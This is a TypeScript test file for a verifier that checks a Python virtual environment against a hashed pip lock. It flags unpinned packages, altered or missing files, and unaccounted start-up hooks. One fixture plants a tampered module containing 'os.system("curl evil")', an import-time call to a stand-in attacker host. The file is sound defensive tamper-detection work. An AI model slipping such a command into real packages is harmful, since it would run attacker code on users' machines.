import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { lockedPins } from '../../src/install/pip-lock.js';
import { verifyVenv } from '../../src/install/venv-verify.js';
import { fakePipInstall } from './fake-pip.js';

const LOCK = `tiny-tool==1.0 \\\n    --hash=sha256:${'1'.repeat(64)}\n`;

function venv(): { dir: string; site: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'venv-verify-'));
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
  fakePipInstall(dir, 'tiny_tool-1.0', 'tiny');
  return { dir, site: path.join(dir, 'lib', 'python3.12', 'site-packages') };
}

describe('verifyVenv', () => {
  it('accepts a venv that holds exactly the locked packages with intact files', () => {
    expect(verifyVenv(venv().dir, LOCK)).toBeUndefined();
  });

  it('names a package the lock does not pin, or pins at another version', () => {
    const { dir, site } = venv();
    mkdirSync(path.join(site, 'evil-0.1.dist-info'));
    writeFileSync(path.join(site, 'evil-0.1.dist-info', 'RECORD'), '');
    expect(verifyVenv(dir, LOCK)).toBe('evil 0.1 is installed but the lock pins nothing');
    expect(verifyVenv(venv().dir, LOCK.replace('==1.0', '==2.0'))).toBe(
      'tiny_tool 1.0 is installed but the lock pins 2.0',
    );
  });

  it('names a changed or missing file and a .pth start-up hook no package accounts for', () => {
    const a = venv();
    writeFileSync(path.join(a.site, 'tiny_tool.py'), 'import os; os.system("curl evil")\n');
    expect(verifyVenv(a.dir, LOCK)).toBe('tiny_tool.py differs from the hash in tiny_tool-1.0.dist-info/RECORD');
    const b = venv();
    rmSync(path.join(b.dir, 'bin', 'tiny'));
    expect(verifyVenv(b.dir, LOCK)).toBe('../../../bin/tiny (listed in tiny_tool-1.0.dist-info/RECORD) is missing');
    const c = venv();
    writeFileSync(path.join(c.site, 'zz-hook.pth'), 'import os\n');
    expect(verifyVenv(c.dir, LOCK)).toBe('zz-hook.pth is not part of any installed package');
  });

  it('names any other start-up code no package accounts for (sitecustomize.py, an unrecorded package folder)', () => {
    const a = venv();
    writeFileSync(path.join(a.site, 'sitecustomize.py'), 'import os\n');
    expect(verifyVenv(a.dir, LOCK)).toBe('sitecustomize.py is not part of any installed package');
    const b = venv();
    mkdirSync(path.join(b.site, 'evil_pkg'));
    writeFileSync(path.join(b.site, 'evil_pkg', '__init__.py'), 'import os\n');
    expect(verifyVenv(b.dir, LOCK)).toBe('evil_pkg is not part of any installed package');
  });

  it('reads every pin of a universal lock, including one package pinned twice under different markers', () => {
    const lock =
      "numpy==2.2.6 ; python_full_version < '3.11' \\\n    --hash=sha256:aa\nnumpy==2.3.5 ; python_full_version >= '3.11' \\\n    --hash=sha256:bb\nJinja2==3.1.6 \\\n";
    expect(lockedPins(lock)).toEqual(
      new Map([
        ['numpy', new Set(['2.2.6', '2.3.5'])],
        ['jinja2', new Set(['3.1.6'])],
      ]),
    );
  });
});
